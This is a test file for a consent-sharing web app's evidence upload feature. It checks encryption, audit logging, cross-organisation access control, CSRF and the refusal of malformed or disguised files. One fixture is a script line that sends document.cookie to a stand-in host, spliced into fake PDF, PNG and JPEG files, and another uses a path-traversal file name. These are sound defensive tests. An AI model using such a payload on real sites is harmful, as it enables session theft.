import { createHash, randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { errorSummary, type TestBrowser } from '../../test/support/browser.ts';
import {
  addPerson,
  consentWorld,
  givenConsentAnswers,
  viewerOf,
  type ConsentWorld,
} from '../../test/support/consent-fixtures.ts';
import { createOrganisation, createStaff, signIn, type TestStaff } from '../../test/support/factories.ts';
import { testApp, type TestContext } from '../../test/support/harness.ts';
import { largePng, sampleJpeg, samplePdf, samplePng } from '../../test/support/sample-files.ts';
import { RuleError } from '../lib/errors.ts';
import { checkEvidenceFile } from './consent.evidence.ts';

let context: TestContext;
let world: ConsentWorld;
let practitioner: TestStaff;
let colleague: TestStaff;
let elsewhere: TestStaff;
let childId: string;
let consentId: string;

const marker = 'AMELIA-HUGHES-SIGNED-CONSENT-MARKER';
// Real files: uploads are parsed whole, so a signature with anything behind it is refused.
let pdf: Buffer;
const png = samplePng();
const jpeg = sampleJpeg();

beforeAll(async () => {
  pdf = await samplePdf({ title: marker });
  context = await testApp({ SIGN_IN_ADDRESS_LIMIT: '1000' });
  world = consentWorld(context);
  const organisationId = await createOrganisation(context, {
    name: `Swindon Borough Council ${randomUUID().slice(0, 6)}`,
  });
  const otherOrganisationId = await createOrganisation(context, {
    name: `Wiltshire Council ${randomUUID().slice(0, 6)}`,
  });
  const schoolId = await createOrganisation(context, {
    name: `Drove Primary School ${randomUUID().slice(0, 6)}`,
    hosted: false,
  });
  practitioner = await createStaff(context, {
    organisationId,
    roles: ['practitioner'],
    displayName: 'Priya Sharma',
  });
  colleague = await createStaff(context, {
    organisationId,
    roles: ['practitioner'],
    displayName: 'Tom Walsh',
  });
  elsewhere = await createStaff(context, {
    organisationId: otherOrganisationId,
    roles: ['practitioner', 'dpo'],
  });
  childId = await addPerson(world, organisationId, {
    givenNames: 'Amelia',
    familyName: 'Hughes',
    dateOfBirth: '2014-05-12',
    allocateTo: practitioner.id,
  });
  const answers = givenConsentAnswers({
    purposeIds: ['early-help'],
    recipientOrganisationIds: [schoolId],
    recipientRoles: [],
    methodIds: ['secure-exchange'],
    categoryIds: ['education'],
  });
  consentId = await world.consents.record(viewerOf(practitioner, ['practitioner']), childId, answers);
});

interface Upload {
  readonly name: string;
  readonly type: string;
  readonly bytes: Buffer;
}

/** Posts the upload form as a browser would: multipart, with the session and CSRF cookies and the page's token. */
async function upload(browser: TestBrowser, file: Upload | undefined, options: { csrf?: boolean } = {}) {
  await browser.get(`/consents/${consentId}`);
  const form = new FormData();
  if (options.csrf !== false) form.append('_csrf', await browser.formToken());
  form.append(
    'evidence',
    new Blob([file?.bytes ?? Buffer.alloc(0)], { type: file?.type ?? 'application/octet-stream' }),
    file?.name ?? '',
  );
  const request = new Response(form);
  const payload = Buffer.from(await request.arrayBuffer());
  const cookie = ['__Host-safeshare_session', '__Host-safeshare_csrf']
    .flatMap((name) => (browser.cookie(name) === undefined ? [] : [`${name}=${browser.cookie(name) ?? ''}`]))
    .join('; ');
  return context.app.inject({
    method: 'POST',
    url: `/consents/${consentId}/evidence`,
    payload,
    headers: { 'content-type': request.headers.get('content-type') ?? '', cookie },
  });
}

async function stored(): Promise<number> {
  const row = await context.db
    .selectFrom('consent_evidence')
    .select((eb) => eb.fn.countAll<string>().as('count'))
    .where('consent_id', '=', consentId)
    .executeTakeFirstOrThrow();
  return Number(row.count);
}

async function auditEvents(action: string) {
  return context.db
    .selectFrom('audit_events')
    .select(['person_id', 'entity_id', 'change'])
    .where('action', '=', action)
    .orderBy('seq')
    .execute();
}

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

describe('uploading and downloading evidence of consent', () => {
  it('stores a PDF and a PNG encrypted, lists them, and gives back the same bytes', async () => {
    const browser = await signIn(context, practitioner);
    const page = await browser.get(`/consents/${consentId}`);
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('enctype="multipart/form-data"');
    expect(page.body).toContain('No evidence has been uploaded');

    const posted = await upload(browser, {
      name: '../Signed consent <Amelia>.pdf',
      type: 'application/pdf',
      bytes: pdf,
    });
    expect(posted.statusCode, errorSummary(posted.body).join('; ')).toBe(303);
    expect(posted.headers['location']).toBe(`/consents/${consentId}?done=evidence`);
    expect((await upload(browser, { name: 'photo.png', type: 'image/png', bytes: png })).statusCode).toBe(
      303,
    );
    expect(await stored()).toBe(2);

    const rows = await context.db
      .selectFrom('consent_evidence')
      .selectAll()
      .where('consent_id', '=', consentId)
      .orderBy('uploaded_at')
      .orderBy('file_name')
      .execute();
    const pdfRow = rows.find((row) => row.content_type === 'application/pdf');
    if (pdfRow === undefined) throw new Error('the PDF was not stored');
    expect(pdfRow.file_name).toBe('Signed consent Amelia.pdf');
    expect(pdfRow.size_bytes).toBe(pdf.length);
    expect(pdfRow.sha256).toBe(sha256(pdf));
    expect(pdf.includes(Buffer.from(marker))).toBe(true);
    expect(pdfRow.ciphertext.length).toBe(pdf.length);
    expect(pdfRow.ciphertext.includes(Buffer.from(marker))).toBe(false);
    expect(pdfRow.ciphertext.includes(Buffer.from('%PDF-'))).toBe(false);
    expect(pdfRow.wrapped_key).toMatch(/^v1\./);

    const shown = await browser.get(`/consents/${consentId}?done=evidence`);
    expect(shown.body).toContain('Evidence uploaded.');
    expect(shown.body).toContain('Signed consent Amelia.pdf');
    expect(shown.body).toContain('photo.png');
    expect(shown.body).toContain('Priya Sharma');

    const uploaded = await auditEvents('consent.evidence_uploaded');
    expect(uploaded).toHaveLength(2);
    expect(uploaded[0]?.person_id).toBe(childId);
    expect(uploaded[0]?.entity_id).toBe(consentId);
    expect(uploaded[0]?.change).toMatchObject({
      evidenceId: pdfRow.id,
      fileName: 'Signed consent Amelia.pdf',
      sizeBytes: pdf.length,
      sha256: sha256(pdf),
    });
    expect(JSON.stringify(uploaded)).not.toContain(marker);

    const download = await browser.get(`/consents/${consentId}/evidence/${pdfRow.id}`);
    expect(download.statusCode).toBe(200);
    expect(download.rawPayload.equals(pdf)).toBe(true);
    expect(download.headers['content-type']).toBe('application/pdf');
    expect(download.headers['content-disposition']).toBe(
      `attachment; filename="consent-evidence-${pdfRow.id}.pdf"`,
    );
    expect(download.headers['cache-control']).toBe('no-store');
    expect(download.headers['x-content-type-options']).toBe('nosniff');
    const pngRow = rows.find((row) => row.content_type === 'image/png');
    const pngDownload = await browser.get(`/consents/${consentId}/evidence/${pngRow?.id ?? ''}`);
    expect(pngDownload.rawPayload.equals(png)).toBe(true);
    expect(pngDownload.headers['content-disposition']).toBe(
      `attachment; filename="consent-evidence-${pngRow?.id ?? ''}.png"`,
    );

    const viewed = await auditEvents('consent.evidence_viewed');
    expect(viewed).toHaveLength(2);
    expect(viewed[0]?.person_id).toBe(childId);
    expect(viewed[0]?.change).toMatchObject({ evidenceId: pdfRow.id });
  });

  it('keeps evidence append-only', async () => {
    await expect(context.db.deleteFrom('consent_evidence').execute()).rejects.toThrow(/refused/);
    await expect(
      context.db.updateTable('consent_evidence').set({ file_name: 'changed.pdf' }).execute(),
    ).rejects.toThrow(/refused/);
  });

  it('shows another organisation nothing, and sends an unallocated practitioner to the person page', async () => {
    const evidenceId = (
      await context.db
        .selectFrom('consent_evidence')
        .select('id')
        .where('consent_id', '=', consentId)
        .executeTakeFirstOrThrow()
    ).id;
    const before = await stored();
    const outsider = await signIn(context, elsewhere);
    expect((await outsider.get(`/consents/${consentId}/evidence/${evidenceId}`)).statusCode).toBe(404);
    expect(
      (await upload(outsider, { name: 'form.pdf', type: 'application/pdf', bytes: pdf })).statusCode,
    ).toBe(404);

    const unallocated = await signIn(context, colleague);
    const download = await unallocated.get(`/consents/${consentId}/evidence/${evidenceId}`);
    expect(download.statusCode).toBe(303);
    expect(download.headers['location']).toBe(`/people/${childId}`);
    const posted = await upload(unallocated, { name: 'form.pdf', type: 'application/pdf', bytes: pdf });
    expect(posted.statusCode).toBe(303);
    expect(posted.headers['location']).toBe(`/people/${childId}`);

    const practitionerBrowser = await signIn(context, practitioner);
    expect(
      (await practitionerBrowser.get(`/consents/${consentId}/evidence/${randomUUID()}`)).statusCode,
    ).toBe(404);
    expect((await practitionerBrowser.get(`/consents/${consentId}/evidence/not-an-id`)).statusCode).toBe(404);
    expect(await stored()).toBe(before);
  });

  it('refuses bad files with an error on the details page and stores nothing', async () => {
    const browser = await signIn(context, practitioner);
    const before = await stored();
    const exe = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(200, 1)]);
    const cases: [Upload | undefined, string][] = [
      [undefined, 'Select a file'],
      [{ name: 'empty.pdf', type: 'application/pdf', bytes: Buffer.alloc(0) }, 'The selected file is empty'],
      [
        { name: 'consent.pdf', type: 'application/pdf', bytes: exe },
        'The selected file must be a PDF, PNG or JPEG',
      ],
      [
        { name: 'consent.exe', type: 'application/x-msdownload', bytes: exe },
        'The selected file must be a PDF, PNG or JPEG',
      ],
      [{ name: 'photo.png', type: 'image/png', bytes: pdf }, 'The selected file must be a PDF, PNG or JPEG'],
      [
        { name: 'notes.txt', type: 'text/plain', bytes: Buffer.from('Consent given verbally') },
        'The selected file must be a PDF, PNG or JPEG',
      ],
      [
        {
          name: 'huge.pdf',
          type: 'application/pdf',
          bytes: Buffer.concat([pdf, Buffer.alloc(5 * 1024 * 1024)]),
        },
        'The selected file must be smaller than 5MB',
      ],
    ];
    for (const [file, message] of cases) {
      const response = await upload(browser, file);
      expect(response.statusCode, file?.name ?? 'no file').toBe(400);
      expect(errorSummary(response.body)).toEqual([message]);
      expect(response.body).toContain('govuk-file-upload');
      expect(response.body).toContain('Consent given');
    }
    const urlencoded = await browser.post(`/consents/${consentId}/evidence`, {});
    expect(urlencoded.statusCode).toBe(400);
    expect(errorSummary(urlencoded.body)).toEqual(['Select a file']);
    expect(await stored()).toBe(before);
    expect(await auditEvents('consent.evidence_uploaded')).toHaveLength(before);
  });

  it('refuses files that only start like a PDF, PNG or JPEG, and stores nothing', async () => {
    const browser = await signIn(context, practitioner);
    const before = await stored();
    const script = Buffer.from(
      '<html><body><script>fetch("https://example.invalid/?" + document.cookie)</script></body></html>\n',
      'latin1',
    );
    const cases: [Upload, string][] = [
      [
        {
          name: 'consent.pdf',
          type: 'application/pdf',
          bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), script]),
        },
        'The selected file is not a complete PDF: it may be damaged, or be another kind of file',
      ],
      [
        { name: 'consent.pdf', type: 'application/pdf', bytes: Buffer.concat([pdf, script]) },
        'The selected file has other content after the end of the PDF',
      ],
      [
        { name: 'consent.pdf', type: 'application/pdf', bytes: pdf.subarray(0, pdf.length - 100) },
        'The selected file is not a complete PDF: it may be damaged, or be another kind of file',
      ],
      [
        { name: 'photo.png', type: 'image/png', bytes: Buffer.concat([png.subarray(0, 8), script]) },
        'The selected file is not a complete PNG image: it may be damaged, or be another kind of file',
      ],
      [
        { name: 'photo.png', type: 'image/png', bytes: png.subarray(0, png.length - 20) },
        'The selected file is not a complete PNG image: it may be damaged, or be another kind of file',
      ],
      [
        { name: 'photo.png', type: 'image/png', bytes: Buffer.concat([png, script]) },
        'The selected file has other content after the end of the PNG image',
      ],
      [
        { name: 'photo.png', type: 'image/png', bytes: largePng(9000, 9000) },
        'The selected image must be smaller than 40 megapixels',
      ],
      [
        { name: 'photo.jpg', type: 'image/jpeg', bytes: Buffer.concat([jpeg.subarray(0, 4), script]) },
        'The selected file is not a complete JPEG image: it may be damaged, or be another kind of file',
      ],
      [
        { name: 'photo.jpg', type: 'image/jpeg', bytes: jpeg.subarray(0, jpeg.length - 40) },
        'The selected file is not a complete JPEG image: it may be damaged, or be another kind of file',
      ],
    ];
    for (const [file, message] of cases) {
      const response = await upload(browser, file);
      expect(response.statusCode, message).toBe(400);
      expect(errorSummary(response.body)).toEqual([message]);
      expect(response.body).toContain('govuk-file-upload');
    }
    expect(await stored()).toBe(before);
    expect(await auditEvents('consent.evidence_uploaded')).toHaveLength(before);
  });

  it('stores a JPEG photo of a signed form', async () => {
    const browser = await signIn(context, practitioner);
    const before = await stored();
    const posted = await upload(browser, { name: 'IMG_0412.jpg', type: 'image/jpeg', bytes: jpeg });
    expect(posted.statusCode, errorSummary(posted.body).join('; ')).toBe(303);
    const row = await context.db
      .selectFrom('consent_evidence')
      .select(['content_type', 'sha256'])
      .where('consent_id', '=', consentId)
      .where('file_name', '=', 'IMG_0412.jpg')
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ content_type: 'image/jpeg', sha256: sha256(jpeg) });
    expect(await stored()).toBe(before + 1);
  });

  it('refuses an upload without the CSRF token', async () => {
    const browser = await signIn(context, practitioner);
    const before = await stored();
    const response = await upload(
      browser,
      { name: 'form.pdf', type: 'application/pdf', bytes: pdf },
      { csrf: false },
    );
    expect(response.statusCode).toBe(403);
    expect(response.body).toContain('Your form has expired');
    expect(await stored()).toBe(before);
  });
});

describe('a refused evidence file', () => {
  it('is one of the domain rule errors, about the file input, with a stable code', async () => {
    const refusal = checkEvidenceFile(undefined);
    await expect(refusal).rejects.toBeInstanceOf(RuleError);
    await expect(refusal).rejects.toMatchObject({
      problems: [{ field: 'evidence', code: 'CONSENT.EVIDENCE_REFUSED', message: 'Select a file' }],
    });
  });
});
